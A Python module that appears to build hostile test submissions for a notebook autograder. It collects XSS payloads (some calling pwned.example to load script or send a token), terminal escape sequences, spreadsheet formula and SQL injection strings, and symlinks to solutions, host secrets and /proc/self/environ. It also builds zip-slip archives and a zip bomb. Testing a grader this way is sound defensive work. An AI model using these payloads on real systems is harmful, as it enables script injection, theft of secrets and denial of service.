"""Feedback as a weapon: what acts where people open pages, notebooks, tables and terminals."""

from __future__ import annotations

import io
import json
import os
import socket
import zipfile
from collections.abc import Callable
from pathlib import Path
from typing import Any

from tiny import Notebook, as_bytes
from tiny import cell as notebook_cell

from attacks.cases import Family, add, cell, edited, family, function, write
from attacks.target import LAB, NAME, half_written

family(Family.WEAPON)

# -- HTML, in every place where a student's words are shown

HTML = {
    "script": "<script>pwned(1)</script>",
    "script-case": "<ScRiPt >pwned(1)</sCrIpT>",
    "script-broken": "<scr<script>ipt>pwned(1)</script>",
    "script-remote": '<script src="//pwned.example/x.js"></script>',
    "onerror": '<img src=x onerror="pwned(1)">',
    "onerror-slash": "<img/src=x/onerror=pwned(1)>",
    "onload": '<body onload="pwned(1)">',
    "ontoggle": "<details open ontoggle=pwned(1)>x</details>",
    "onfocus": "<input autofocus onfocus=pwned(1)>",
    "svg": '<svg onload="pwned(1)"><circle r="9"/></svg>',
    "svg-script": "<svg><script>pwned(1)</script></svg>",
    "svg-use": '<svg><a xlink:href="javascript:pwned(1)"><text y="9">x</text></a></svg>',
    "svg-foreign": "<svg><foreignObject><iframe src='javascript:pwned(1)'></iframe></foreignObject></svg>",
    "math": '<math><maction actiontype="statusline" xlink:href="javascript:pwned(1)">x</maction></math>',
    "iframe": '<iframe srcdoc="&lt;script&gt;pwned(1)&lt;/script&gt;"></iframe>',
    "iframe-remote": '<iframe src="https://pwned.example"></iframe>',
    "object": '<object data="javascript:pwned(1)"></object>',
    "embed": '<embed src="data:text/html,<script>pwned(1)</script>">',
    "form": '<form action="https://pwned.example"><input name=token><button>Go</button></form>',
    "meta": '<meta http-equiv="refresh" content="0;url=https://pwned.example">',
    "base": '<base href="https://pwned.example">',
    "link": '<link rel="stylesheet" href="https://pwned.example/pwned.css">',
    "href": '<a href="javascript:pwned(1)">your grade</a>',
    "href-entities": '<a href="jav&#x09;ascript:pwned(1)">your grade</a>',
    "href-data": '<a href="data:text/html,<script>pwned(1)</script>">your grade</a>',
    "style": '<div style="background:url(https://pwned.example)">x</div>',
    "style-sheet": "<style>@import 'https://pwned.example/pwned.css';</style>",
    "template": "<noscript><p title='</noscript><img src=x onerror=pwned(1)>'>",
    "comment": "<!--><img src=x onerror=pwned(1)>-->",
    "attribute": '"><script>pwned(1)</script><a x="',
    "textarea": "</textarea></pre></code><script>pwned(1)</script>",
}  # fmt: skip
for _name, _html in HTML.items():
    cell(f"html-{_name}", f"an output of HTML: {_html[:60]}",
         f"from IPython.display import HTML\nHTML({_html!r})", elsewhere=True)  # fmt: skip


def _everywhere(notebook: Notebook) -> None:
    """Payloads in every string of the file that might be shown."""
    payload = HTML["onerror"] + HTML["script"]
    notebook["metadata"]["title"] = payload
    notebook["metadata"]["authors"] = [{"name": payload}]
    notebook["metadata"]["language_info"] = {"name": payload, "pygments_lexer": payload,
                                             "file_extension": payload, "mimetype": payload}  # fmt: skip
    notebook["metadata"]["kernelspec"] |= {"display_name": payload}
    for one in notebook["cells"]:
        one["metadata"] |= {"tags": [payload], "name": payload, "jupyter": {"x": payload}}
    notebook["cells"].append(notebook_cell(payload) | {"id": "raw-1", "cell_type": "raw"})


def _answer(text: str) -> Callable[[Notebook], None]:
    def edit(notebook: Notebook) -> None:
        notebook["cells"][-1]["source"] = text

    return edit


def _stored(data: dict[str, Any]) -> Callable[[Notebook], None]:
    """Outputs that the file brings with it."""

    def edit(notebook: Notebook) -> None:
        for one in notebook["cells"]:
            if one["cell_type"] == "code":
                one["outputs"] = [{"output_type": "display_data", "data": data, "metadata": {}}]

    return edit


def _attachment(notebook: Notebook) -> None:
    svg = HTML["svg"]
    notebook["cells"][-1] |= {
        "source": "![x](attachment:x.svg)",
        "attachments": {"x.svg": {"image/svg+xml": svg, "text/html": HTML["script"]}},
    }


def _ids(notebook: Notebook) -> None:
    payload = HTML["onerror"]
    for number, one in enumerate(notebook["cells"]):
        one["id"] = f"{payload}{number}"
    extra = notebook_cell(payload, f"x{payload}", "markdown", grade=True, solution=True, points=1)
    notebook["cells"].append(extra)


edited("words-everywhere", "HTML in every name of the file's metadata", _everywhere)
edited("ids", "HTML as cells' ids and as a grade's id", _ids)
for _name in ("script", "onerror", "svg", "iframe", "href", "template", "meta"):
    edited(f"answer-{_name}", f"a written answer of HTML: {HTML[_name][:50]}",
           _answer(HTML[_name]), elsewhere=True)  # fmt: skip
_MARKDOWN = {
    "link": "[your grade](javascript:pwned(1))", "image": "![x](javascript:pwned(1))",
    "autolink": "<javascript:pwned(1)>", "reference": "[x][y]\n\n[y]: javascript:pwned(1)",
    "latex": r"$\href{javascript:pwned(1)}{x}$", "latex-unicode": r"$\unicode{<img src=x onerror=pwned(1)>}$",
    "fence": "```html\n```\n<script>pwned(1)</script>", "nested": "> - <img src=x\n> onerror=pwned(1)>",
}  # fmt: skip
for _name, _text in _MARKDOWN.items():
    edited(f"markdown-{_name}", f"a written answer of Markdown: {_text[:50]!r}", _answer(_text),
           elsewhere=True)  # fmt: skip
edited("stored-javascript", "a stored output of JavaScript",
       _stored({"application/javascript": "pwned(1)", "text/plain": "x"}), elsewhere=True)  # fmt: skip
edited("stored-html", "a stored output of HTML", _stored({"text/html": HTML["script"]}),
       elsewhere=True)  # fmt: skip
edited("stored-svg", "a stored picture with a script", _stored({"image/svg+xml": HTML["svg-script"]}),
       elsewhere=True)  # fmt: skip
edited("attachment", "an attachment that is a script", _attachment)
_BUNDLES = {
    "javascript": "display({'application/javascript': 'pwned(1)'}, raw=True)",
    "javascript-type": "display({'text/javascript': 'pwned(1)'}, raw=True)",
    "svg": f"display({{'image/svg+xml': {HTML['svg']!r}}}, raw=True)",
    "markdown": f"display({{'text/markdown': {HTML['onerror']!r}}}, raw=True)",
    "latex": r"display({'text/latex': r'$\href{javascript:pwned(1)}{x}$'}, raw=True)",
    "latex-html": f"display({{'text/latex': {HTML['onerror']!r}}}, raw=True)",
    "widget": "display({'application/vnd.jupyter.widget-view+json': {'model_id': '<script>pwned(1)"
              "</script>'}}, raw=True)",
    "png": f"display({{'image/png': {('x' + chr(34) + ' onerror=pwned(1) x=' + chr(34))!r}}}, raw=True)",
    "mime": "display({'text/html;x=<script>pwned(1)</script>': 'x', 'text/html ': '<script>pwned(1)"
            "</script>'}, raw=True)",
    "list": f"display({{'text/html': [{HTML['script'][:9]!r}, {HTML['script'][9:]!r}]}}, raw=True)",
    "vega": "display({'application/vnd.vega.v5+json': {'x': '<script>pwned(1)</script>'}}, raw=True)",
    "nan": "display({'application/json': {'x': float('nan'), 'y': float('inf')}}, raw=True)",
    "metadata": f"display({{'text/plain': 'x'}}, raw=True, metadata={{'x': {HTML['script']!r}}})",
}  # fmt: skip
for _name, _code in _BUNDLES.items():
    cell(f"bundle-{_name}", f"an output of an odd kind: {_name}",
         f"from IPython.display import display\n{_code}", elsewhere=True)  # fmt: skip
for _name in ("script", "onerror", "textarea", "attribute"):
    cell(f"printed-{_name}", f"prints {HTML[_name][:50]}", f"print({HTML[_name]!r})", elsewhere=True)
    cell(f"raised-{_name}", f"raises {HTML[_name][:50]}",
         f"raise type({HTML[_name]!r}, (Exception,), {{}})({HTML[_name]!r})")  # fmt: skip
    function(f"called-{_name}", f"a call raises {HTML[_name][:50]}", f"""
        def softmax(x, axis=-1):
            raise type({HTML[_name]!r}, (Exception,), {{}})({HTML[_name]!r})
    """)
    function(f"typed-{_name}", f"a call returns an object whose type is {HTML[_name][:40]}", f"""
        def softmax(x, axis=-1):
            return type({HTML[_name]!r}, (), {{}})()
    """)
    function(f"line-{_name}", f"a call fails in a line that holds {HTML[_name][:40]}",
             f"def softmax(x, axis=-1):\n    return {HTML[_name]!r} + x")  # fmt: skip

# -- terminals

TERMINAL = {
    "clear": "\x1b[2J\x1b[H", "colour": "\x1b[41m", "title": "\x1b]0;pwned\x07",
    "clipboard": "\x1b]52;c;cHduZWQ=\x07", "link": "\x1b]8;;http://pwned.example\x1b\\x\x1b]8;;\x1b\\",
    "c1": "\x9b2J", "bell": "\x07" * 5, "backspace": "2/8\x08\x08\x088/8", "return": "\r8/8 graded",
    "bidi": "\u202e8/8\u202c", "answer-back": "\x05\x1b[6n\x1b[c", "isolate": "\u2066x\u2069",
    "screen": "\x1bPpwned\x1b\\", "reset": "\x1bc",
}  # fmt: skip
for _name, _text in TERMINAL.items():
    cell(f"terminal-{_name}", f"raises text that commands a terminal: {_text!r}",
         f"raise type({_text + 'Error'!r}, (Exception,), {{}})({_text!r})")  # fmt: skip
    function(f"terminal-call-{_name}", f"a call raises text that commands a terminal: {_text!r}", f"""
        def softmax(x, axis=-1):
            raise type({_text + 'Error'!r}, (Exception,), {{}})({_text!r})
    """)


def _of_name(name: str | bytes) -> Callable[[Path], None]:
    def make(folder: Path) -> None:
        write(folder, name, as_bytes(half_written()))

    return make


def _student(name: str, tries: str, student: str | bytes) -> None:
    known = os.fsencode(student) if isinstance(student, str) else student
    add(name, tries, _of_name(NAME), student=known)


_NAMES = {
    "clear": "pwned\x1b[2J", "bidi": "pwned\u202egnp", "markup": "[red]pwned[-red]",
    "link-markup": "[link=http:pwned]x", "close-markup": "pwned[", "html": "<img src=x onerror=pwned(1)>",
    "formula": "=cmd|pwned!A1", "plus": "+pwned", "minus": "-pwned", "at": "@pwned",
    "wide": "＝pwned", "quote": '"pwned,"=pwned', "semicolon": "x;=pwned", "newline": "pwned\nx: 8 of 8 graded",
    "tab": "\t=pwned", "space": "  pwned  ", "long": "pwned" * 50, "dash": "--help", "glob": "*",
    "brackets": "[a-z]*", "percent": "%(pwned)s{pwned}", "quote-sql": "x'; DROP TABLE grade; --",
    "template": "{{ pwned }}", "dots": "pwned..", "tilde": "~pwned", "emoji": "pwned😈",
}  # fmt: skip
for _name, _text in _NAMES.items():
    _student(f"student-{_name}", f"a student's folder called {_text[:40]!r}", _text)
_student("student-latin", "a student's folder whose name is no UTF-8", b"pwned\xff\xfe")
for _name, _text in _NAMES.items():
    if _name not in ("long", "dots"):
        add(f"file-{_name}", f"a notebook called {_text[:40]!r}", _of_name(f"{_text}.ipynb"))
_FORMULAS = {
    "equals": "=cmd|' /C pwned'!A1", "plus": "+cmd|pwned", "minus": "-2+3+cmd|pwned", "at": "@SUM(pwned)",
    "tab": "\t=pwned", "return": "\r=pwned", "quote": '"=pwned', "semicolon": "x;=pwned", "wide": "＝pwned",
}  # fmt: skip
for _name, _text in _FORMULAS.items():
    cell(f"formula-{_name}", f"an exception's name is a formula: {_text!r}",
         f"raise type({_text!r}, (Exception,), {{}})({_text!r})")  # fmt: skip

# -- folders


def _beside(make: Callable[[Path], None]) -> Callable[[Path], None]:
    """Something beside the half written notebook."""

    def both(folder: Path) -> None:
        write(folder, NAME, as_bytes(half_written()))
        make(folder)

    return both


def _link(target: str, name: str) -> Callable[[Path], None]:
    def make(folder: Path) -> None:
        (folder / name).parent.mkdir(parents=True, exist_ok=True)
        os.symlink(target, folder / name)

    return make


def _first_other(folder: Path) -> str:
    """Where the first honest notebook lies, as seen from a submission."""
    others = sorted(path.name for path in folder.parents[1].iterdir() if "honest" in path.name)
    return f"../../{others[0]}/{LAB}/{NAME}"


def _folder_link(folder: Path) -> None:
    other = (folder / _first_other(folder)).resolve().parent
    folder.rmdir()
    os.symlink(other, folder)


def _socket_file(folder: Path) -> None:
    at = os.getcwd()
    os.chdir(folder)  # a socket's path may be short only
    try:
        with socket.socket(socket.AF_UNIX) as one:
            one.bind("x.ipynb")
    finally:
        os.chdir(at)


def _deep(folder: Path) -> None:
    at = folder
    for _ in range(40):
        at = at / ("d" * 60)
    at.mkdir(parents=True)
    (at / "pwned.txt").write_text("x")


def _many(folder: Path) -> None:
    for number in range(5000):
        (folder / f"pwned{number}.txt").touch()


def _sparse(folder: Path) -> None:
    with (folder / "pwned.bin").open("wb") as file:
        file.truncate(2**33)


def _zip_up(folder: Path) -> None:
    packed = io.BytesIO()
    with zipfile.ZipFile(packed, "w") as archive:
        archive.writestr(f"../../../../solutions/{LAB}/pwned.py", "x")
        archive.writestr(f"../{NAME}", as_bytes(half_written()))
        archive.writestr("/tmp/pwned.ipynb", as_bytes(half_written()))
    (folder / "work.zip").write_bytes(packed.getvalue())


def _zip_bomb(folder: Path) -> None:
    packed = io.BytesIO()
    with zipfile.ZipFile(packed, "w", zipfile.ZIP_DEFLATED) as archive:
        for number in range(20):
            archive.writestr(f"{number}/{NAME}", bytes(60 * 2**20))
    (folder / "work.zip").write_bytes(packed.getvalue())


def _zip_link(folder: Path) -> None:
    packed = io.BytesIO()
    with zipfile.ZipFile(packed, "w") as archive:
        entry = zipfile.ZipInfo(NAME)
        entry.external_attr = 0o120777 << 16
        archive.writestr(entry, f"../../../solutions/{LAB}/{NAME}")
    (folder / "work.zip").write_bytes(packed.getvalue())


def _fifo(name: str) -> Callable[[Path], None]:
    return lambda folder: os.mkfifo(folder / name)


def _timestamp(data: bytes) -> Callable[[Path], None]:
    return _beside(lambda folder: write(folder, "timestamp.txt", data))


def _closed(folder: Path) -> None:
    write(folder, f"closed/{NAME}", b"{}")
    (folder / "closed").chmod(0)


_SOLUTION = f"../../../solutions/{LAB}"
add("link-solution", "the notebook is a link to the solution", _link(f"{_SOLUTION}/{NAME}", NAME),
    worth=0.0)  # fmt: skip
add("link-hidden", "a link to the hidden tests", _beside(_link(f"{_SOLUTION}/hidden", "pictures")))
add("link-hidden-file", "a link to a file of hidden tests",
    _beside(_link(f"{_SOLUTION}/hidden/test_hidden.py", "notes.txt")))  # fmt: skip
add("link-other", "the notebook is a link to somebody's", lambda folder: os.symlink(
    _first_other(folder), folder / NAME), worth=0.0)  # fmt: skip
add("link-folder", "the folder is a link to somebody's", _folder_link, worth=0.0)
add("link-host", "a link to a file of the host", _beside(_link("../../../../host_secret.txt", "notes.txt")))
add("link-gradebook", "a link to the gradebook", _beside(_link("../../../gradebook.db", "notes.db")))
add("link-root", "a link to everything", _beside(_link("/", "everything")))
add("link-loop", "links in a circle", _beside(_link(".", "again/and/again")))
add("link-processes", "a link to processes' files", _beside(_link("/proc/self/environ", "notes.txt")))
add("link-device", "a link to a device that never ends", _beside(_link("/dev/zero", "notes.txt")))
add("fifo-notebook", "the notebook is a pipe", _fifo(NAME), worth=0.0)
add("fifo-other", "a pipe that is called like a notebook", _beside(_fifo("other.ipynb")))
add("fifo-file", "a pipe beside the notebook", _beside(_fifo("notes.txt")))
add("fifo-timestamp", "timestamp.txt is a pipe", _beside(_fifo("timestamp.txt")))
add("timestamp-words", "timestamp.txt holds no date", _timestamp(b"when I was young"))
add("timestamp-escape", "timestamp.txt commands a terminal", _timestamp(b"\x1b[2J\x1b]52;c;eA==\x07"))
add("timestamp-large", "timestamp.txt is of 50 MiB", _timestamp(b"2026" * 2**20 * 12))
add("timestamp-far", "timestamp.txt is of the year 99999", _timestamp(b"99999-01-01 00:00:00 UTC"))
add("timestamp-zone", "timestamp.txt has an odd time zone", _timestamp(b"2026-01-01 00:00:00 +99:99"))
add("timestamp-link", "timestamp.txt is a link to a secret",
    _beside(_link("../../../../host_secret.txt", "timestamp.txt")))  # fmt: skip
add("timestamp-folder", "timestamp.txt is a folder", _beside(lambda f: (f / "timestamp.txt").mkdir()))
add("socket-file", "a socket that is called like a notebook", _beside(_socket_file))
add("deep-folder", "folders in folders, 40 deep", _beside(_deep))
add("many-files", "five thousand files beside the notebook", _beside(_many))
add("sparse-file", "a file of eight gigabytes beside the notebook", _beside(_sparse))
add("closed-folder", "a folder that cannot be opened", _beside(_closed))
add("zip-up", "an archive whose names lead out of it", _zip_up, worth=2.0)
add("zip-bomb", "an archive of twenty times 60 MiB", _zip_bomb, worth=0.0)
add("zip-link", "an archive with a link in it", _zip_link, worth=0.0)
add("companion-page", "a page of HTML beside the notebook", _beside(
    lambda folder: write(folder, f"{NAME[:-6]}.html", HTML["script"].encode())))  # fmt: skip
add("companion-feedback", "a file that is called like the feedback", _beside(
    lambda folder: write(folder, "feedback.html", b"<h1>8 of 8 points</h1>")))  # fmt: skip
add("companion-database", "a gradebook beside the notebook", _beside(
    lambda folder: write(folder, "gradebook.db", b"SQLite format 3\0")))  # fmt: skip
add("nan-file", "NaN and infinities in the notebook's file", lambda folder: write(
    folder, NAME, json.dumps(half_written() | {"metadata": {"x": float("nan")}}).encode()))  # fmt: skip
